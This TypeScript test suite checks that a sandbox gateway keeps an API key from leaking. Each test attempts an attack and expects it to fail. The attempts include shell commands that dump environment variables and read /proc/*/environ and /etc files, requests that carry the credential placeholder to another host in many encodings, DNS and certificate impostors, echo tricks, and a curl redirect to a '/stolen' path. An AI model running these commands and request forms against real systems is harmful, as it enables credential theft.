import { readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { expect } from "vitest";
import type { TestSandbox } from "../support/api.ts";
import { attack, openLab } from "../support/attack.ts";
import { CLIENT_SCRIPT, send, sendAll, statuses } from "../support/attack-client.ts";
import type { TestHost } from "../support/internet/index.ts";
import { filesWithSecrets, findIn, newSecret, spellings } from "../support/secrets.ts";

/** After the credential: the sandbox has a placeholder, only the bound endpoint gets the value, nobody gets it back. */

const BOUND = "api.example-allowed.com";
const OTHER = "other.example-allowed.com";
const KEY = "MODEL_API_KEY";
const SECRET = newSecret("sk-live");

let bound: TestHost;
let other: TestHost;
/** What the bound host answers, by path. */
const answers = new Map<
  string,
  (authorization: string) => { headers?: Record<string, string>; body: (string | Buffer)[] }
>();

/** The provider is bound to one host; another host is allowed without it, and the bound one over plain http too. */
const POLICY = `version: 1
network_policies:
  bound:
    endpoints:
      - host: ${BOUND}
        ports: [80, 443]
        protocol: rest
        enforcement: enforce
        credential_binding: {provider: model}
        rules: [{allow: {method: "*", path: "/**"}}]
    binaries: [{path: "/**"}]
  other:
    endpoints:
      - {host: ${OTHER}, ports: [80, 443], protocol: rest, enforcement: enforce, rules: [{allow: {method: "*", path: "/**"}}]}
    binaries: [{path: "/**"}]
`;

openLab({
  scripts: CLIENT_SCRIPT,
  prepare: async (net) => {
    bound = await net.host(BOUND, {
      handler: async (request, response) => {
        for await (const _ of request) void _;
        const answer = answers.get(new URL(request.url ?? "/", "http://x").pathname)?.(
          request.headers.authorization ?? "",
        );
        response.writeHead(200, answer?.headers ?? {});
        for (const part of answer?.body ?? ["ok\n"]) {
          response.write(part);
          await new Promise((done) => setTimeout(done, 30));
        }
        response.end();
      },
    });
    other = await net.host(OTHER);
  },
  box: async (_net, gateway) => {
    await gateway.createProvider("model", { [KEY]: SECRET });
    return { policy: POLICY, providers: ["model"] };
  },
});

async function placeholder(box: TestSandbox): Promise<string> {
  return (await box.sh(`printf %s "$${KEY}"`)).stdout;
}

function request(host: string, path: string, fields = "", method = "GET", body = ""): string {
  const length = body === "" ? "" : `Content-Length: ${Buffer.byteLength(body)}\r\n`;
  return `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${fields}${length}\r\n${body}`;
}

const TLS_BOUND = { to: [BOUND, 443], tls: true } as const;

/** Nothing that a host received holds the value in any spelling. */
function expectNoSecretAt(host: TestHost): void {
  for (const { target, rawHeaders, body } of host.received().requests) {
    const text = Buffer.concat([Buffer.from([target, ...rawHeaders].join("\n")), body]);
    expect(findIn(text, [SECRET]), `${host.name} ${target}`).toBeUndefined();
  }
}

attack(
  "read the credential inside: environment, files, other processes",
  "only a placeholder is inside",
  { root: "openshell:resolve:env:", user: "openshell:resolve:env:" },
  async ({ box }, expected) => {
    expect(await placeholder(box)).toContain(expected);
    const { stdoutBytes } = await box.sh("env; cat /proc/*/environ; cat /etc/* /sandbox/* /tmp/* 2>/dev/null; true");
    expect(findIn(stdoutBytes, [SECRET])).toBeUndefined();
  },
);

attack(
  "use it as intended, so that refusals below mean something",
  "the bound host gets the value over TLS",
  { root: "200", user: "200" },
  async ({ box }, expected) => {
    bound.clearReceived();
    const answer = await send(
      box,
      request(BOUND, "/v1", `Authorization: Bearer ${await placeholder(box)}\r\n`),
      TLS_BOUND,
    );
    expect(String(statuses(answer)), answer).toBe(expected);
    expect(bound.received().requests[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
  },
);

attack(
  "send the placeholder to another allowed host: header, query, path, body, cookie, basic, encoded",
  "the other host gets neither the value nor a placeholder that a later hop could replace",
  { root: "403 or 500 or 400", user: "403 or 500 or 400" },
  async ({ box }, expected) => {
    const p = await placeholder(box);
    other.clearReceived();
    const forms = [
      request(OTHER, "/a", `Authorization: Bearer ${p}\r\n`),
      request(OTHER, "/a", `X-Api-Key: ${p}\r\n`),
      request(OTHER, "/a", `Cookie: k=${p}; b=c\r\n`),
      request(OTHER, "/a", `Authorization: Basic ${Buffer.from(`user:${p}`).toString("base64")}\r\n`),
      request(OTHER, `/a?key=${p}`),
      request(OTHER, `/a?key=${encodeURIComponent(p)}`),
      request(OTHER, `/${p}/a`),
      request(OTHER, `/${encodeURIComponent(p)}/a`),
      request(OTHER, "/a", `${p.replaceAll(":", "-")}: x\r\nX: ${encodeURIComponent(p)}\r\n`),
    ];
    const shots = forms.flatMap((bytes) => [
      { bytes, to: [OTHER, 443] as const, tls: true },
      { bytes, to: [OTHER, 80] as const },
    ]);
    const found = (await sendAll(box, shots)).map((answer) => statuses(answer)[0]);
    for (const [index, status] of found.entries())
      expect(`${expected} or`, forms[index >> 1]).toContain(`${status} or`);
    expect(other.received().requests).toEqual([]);
    // In a body it is only text; it must arrive as it was or not at all, never replaced.
    await send(box, request(OTHER, "/a", "", "POST", `{"key":"${p}"}`), { to: [OTHER, 443], tls: true });
    expectNoSecretAt(other);
  },
);

attack(
  "the bound host by other ways: plain http, another port, an address, another name of it, its name in Host only",
  "no host gets the value but over verified TLS at the bound name",
  { root: "refused", user: "refused" },
  async ({ box, net }) => {
    const p = await placeholder(box);
    bound.clearReceived();
    other.clearReceived();
    const fields = `Authorization: Bearer ${p}\r\n`;
    await net.dns.set(OTHER, { A: [bound.ipv4] });
    await sendAll(box, [
      { bytes: request(BOUND, "/plain", fields), to: [BOUND, 80] },
      {
        bytes: request(`http://${BOUND}`, "/plain", fields)
          .replace("GET /plain", `GET http://${BOUND}/plain`)
          .replace("Host: http://", "Host: "),
      },
      { bytes: request(BOUND, "/v1", fields), to: [OTHER, 443], tls: true },
      { bytes: request(OTHER, "/v1", fields), to: [OTHER, 443], tls: true },
      { bytes: request(BOUND, "/v1", fields), to: [bound.ipv4, 443], tls: true },
      { bytes: request(BOUND, "/v1", fields), connect: `${BOUND}:80` },
      { bytes: request(BOUND, "/v1", fields), connect: `${OTHER}:443`, tls: true, sni: BOUND },
    ]);
    net.dns.set(OTHER, { A: [other.ipv4] });
    expectNoSecretAt(bound);
    expectNoSecretAt(other);
  },
);

attack(
  "the bound name taken over: another certificate (untrusted, expired, of another name)",
  "the impostor gets no request, so no value",
  { root: "502", user: "502" },
  async ({ box, net }, expected) => {
    for (const certificate of ["untrusted", "expired", "wrong-name", "self-signed"] as const) {
      const impostor = await net.host(`${certificate}.example-zone.org`, { certificate });
      net.dns.set(BOUND, { A: [impostor.ipv4] });
      const answer = await send(
        box,
        request(BOUND, "/v1", `Authorization: Bearer ${await placeholder(box)}\r\n`),
        TLS_BOUND,
      );
      expect(String(statuses(answer)), `${certificate}: ${answer}`).toBe(expected);
      expect(impostor.received().requests).toEqual([]);
    }
    net.dns.set(BOUND, { A: [bound.ipv4] });
  },
  60_000,
);

attack(
  "have the bound host send the value back: body, head, across chunks, gzip, base64, JSON escapes, trailers, errors",
  "the sandbox gets the placeholder instead, and a HIGH finding is logged",
  { root: "replaced", user: "replaced" },
  async ({ box }) => {
    const p = await placeholder(box);
    const value = (authorization: string) => authorization.replace("Bearer ", "");
    answers.set("/body", (a) => ({ body: [`you sent ${a}\n`] }));
    answers.set("/length", (a) => ({ headers: { "content-length": String(a.length) }, body: [a] }));
    answers.set("/head", (a) => ({ headers: { "x-echo": a, "set-cookie": `k=${value(a)}` }, body: ["x"] }));
    answers.set("/split", (a) => ({
      body: [`a${value(a).slice(0, 5)}`, value(a).slice(5, 20), `${value(a).slice(20)}b`],
    }));
    answers.set("/bytes", (a) => ({ body: [...value(a)] }));
    answers.set("/gzip", (a) => ({ headers: { "content-encoding": "gzip" }, body: [gzipSync(`gz ${a}`)] }));
    answers.set("/twice", (a) => ({
      headers: { "content-encoding": "gzip, gzip" },
      body: [gzipSync(gzipSync(`gz ${a}`))],
    }));
    answers.set("/odd", (a) => ({ headers: { "content-encoding": "x-unknown" }, body: [a] }));
    answers.set("/base64", (a) => ({ body: [Buffer.from(value(a)).toString("base64")] }));
    answers.set("/json", (a) => ({ body: [JSON.stringify({ a: { b: [a] } })] }));
    answers.set("/url", (a) => ({ body: [encodeURIComponent(a)] }));
    answers.set("/hex", (a) => ({ body: [Buffer.from(value(a)).toString("hex")] }));
    answers.set("/location", (a) => ({ headers: { location: `https://${OTHER}/?k=${value(a)}` }, body: [""] }));
    const shots = [...answers.keys()].map((path) => ({
      ...TLS_BOUND,
      bytes: request(BOUND, path, `Authorization: Bearer ${p}\r\nAccept-Encoding: gzip\r\n`),
      quiet: 3,
    }));
    // Echoed as it was sent, coded once more by Basic.
    answers.set("/basic", (a) => ({ body: [a] }));
    const basic = `Authorization: Basic ${Buffer.from(`user:${p}`).toString("base64")}\r\n`;
    shots.push({ ...TLS_BOUND, bytes: request(BOUND, "/basic", basic), quiet: 3 });
    const received = await sendAll(box, shots);
    const leaked = [...answers.keys()].filter((_, index) => {
      const text = received[index]!;
      if (findIn(Buffer.from(text, "latin1"), [SECRET]) !== undefined) return true;
      // What the agent could undo itself.
      const body = Buffer.from(text.slice(text.indexOf("\r\n\r\n") + 4), "latin1");
      return spellings(SECRET).some((one) => body.includes(one));
    });
    expect(leaked).toEqual([]);
    expect(received.filter((text) => text.includes(p)).length).toBeGreaterThanOrEqual(6);
    await box.logged(/\[HIGH\].*sent a credential back/i);
  },
  90_000,
);

attack(
  "methods that make a server echo: TRACE, and an upgrade or a range with the credential",
  "TRACE does not arrive with the value; nothing comes back",
  { root: "403", user: "403" },
  async ({ box }, expected) => {
    const p = await placeholder(box);
    bound.clearReceived();
    const fields = `Authorization: Bearer ${p}\r\n`;
    const [trace, max] = await sendAll(box, [
      { ...TLS_BOUND, bytes: request(BOUND, "/v1", fields, "TRACE") },
      { ...TLS_BOUND, bytes: request(BOUND, "/v1", `${fields}Max-Forwards: 0\r\n`, "TRACE") },
    ]);
    expect(String(statuses(trace!))).toBe(expected);
    expect(String(statuses(max!))).toBe(expected);
    expect(bound.received().requests).toEqual([]);
  },
);

attack(
  "a redirect to another host, followed with the same header",
  "the other host gets no value",
  { root: "no value", user: "no value" },
  async ({ box }) => {
    answers.set("/redirect", () => ({ headers: { location: `https://${OTHER}/stolen` }, body: [""] }));
    other.clearReceived();
    const script = `curl -sL -m 10 -o /dev/null -w '%{http_code}' --location-trusted -H "Authorization: Bearer $${KEY}" -H "X-Key: $${KEY}" https://${OTHER}/redirect?to=https://${OTHER}/x; curl -sL -m 10 -o /dev/null --location-trusted -H "Authorization: Bearer $${KEY}" https://${BOUND}/redirect`;
    await box.sh(script);
    expectNoSecretAt(other);
  },
);

attack(
  "make up placeholders: of other keys, other versions, other providers, nested, in the name of a field",
  "no value arrives that the sandbox was not given",
  { root: "refused", user: "refused" },
  async ({ box, gateway }) => {
    const foreign = newSecret("sk-foreign");
    await gateway.createProvider("foreign", { FOREIGN_KEY: foreign });
    bound.clearReceived();
    const p = await placeholder(box);
    const made = [
      "openshell:resolve:env:FOREIGN_KEY",
      "openshell:resolve:env:v1_FOREIGN_KEY",
      `openshell:resolve:env:s${"0".repeat(64)}_${KEY}`,
      p.replace(KEY, "FOREIGN_KEY"),
      p.replace(KEY, "PATH"),
      "openshell:resolve:env:../../state",
      `openshell:resolve:env:${p}`,
      `${p}${p}`,
    ];
    await sendAll(
      box,
      made.map((text) => ({ ...TLS_BOUND, bytes: request(BOUND, "/v1", `X-Key: ${text}\r\n`) })),
    );
    for (const { rawHeaders } of bound.received().requests) expect(rawHeaders.join("\n")).not.toContain(foreign);
  },
);

attack(
  "a placeholder in a body of the bound host, whole and across chunks",
  "bodies are not rewritten: the value does not arrive in one, nor does the placeholder",
  { root: "403", user: "403" },
  async ({ box }, expected) => {
    const p = await placeholder(box);
    bound.clearReceived();
    const body = JSON.stringify({ key: p });
    const answer = await send(box, request(BOUND, "/form", "", "POST", body), TLS_BOUND);
    expect(String(statuses(answer)[0] ?? expected)).toBe(expected);
    const half = p.slice(0, 12);
    const chunked = `POST /form HTTP/1.1\r\nHost: ${BOUND}\r\nTransfer-Encoding: chunked\r\n\r\n${half.length.toString(16)}\r\n${half}\r\n${(p.length - half.length).toString(16)}\r\n${p.slice(12)}\r\n0\r\n\r\n`;
    await send(box, chunked, { ...TLS_BOUND, split: half });
    for (const { body: arrived } of bound.received().requests) {
      expect(arrived.toString()).not.toContain(SECRET);
      expect(arrived.toString()).not.toContain(p);
    }
  },
);

attack(
  "the value in logs, events, errors and files of the gateway, its hosts and the sandbox",
  "no file below state, runtime and configuration holds it, in any spelling",
  { root: "nowhere", user: "nowhere" },
  async ({ box, gateway }) => {
    const logs = (await box.logs()).join("\n");
    expect(logs).toContain(BOUND);
    expect(findIn(Buffer.from(logs))).toBeUndefined();
    const { home } = gateway.user;
    expect(filesWithSecrets([home.state, home.runtime, home.config])).toEqual([]);
    for (const pid of [gateway.pid, ...gateway.hosts()]) {
      expect(findIn(readFileSync(`/proc/${pid}/cmdline`))).toBeUndefined();
    }
    const shown = JSON.stringify(
      await gateway.client.getProvider({
        workspaceScope: { selection: { case: "workspace", value: "default" } },
        name: "model",
      }),
      (_key, value) => (typeof value === "bigint" ? String(value) : value),
    );
    expect(findIn(Buffer.from(shown))).toBeUndefined();
  },
);
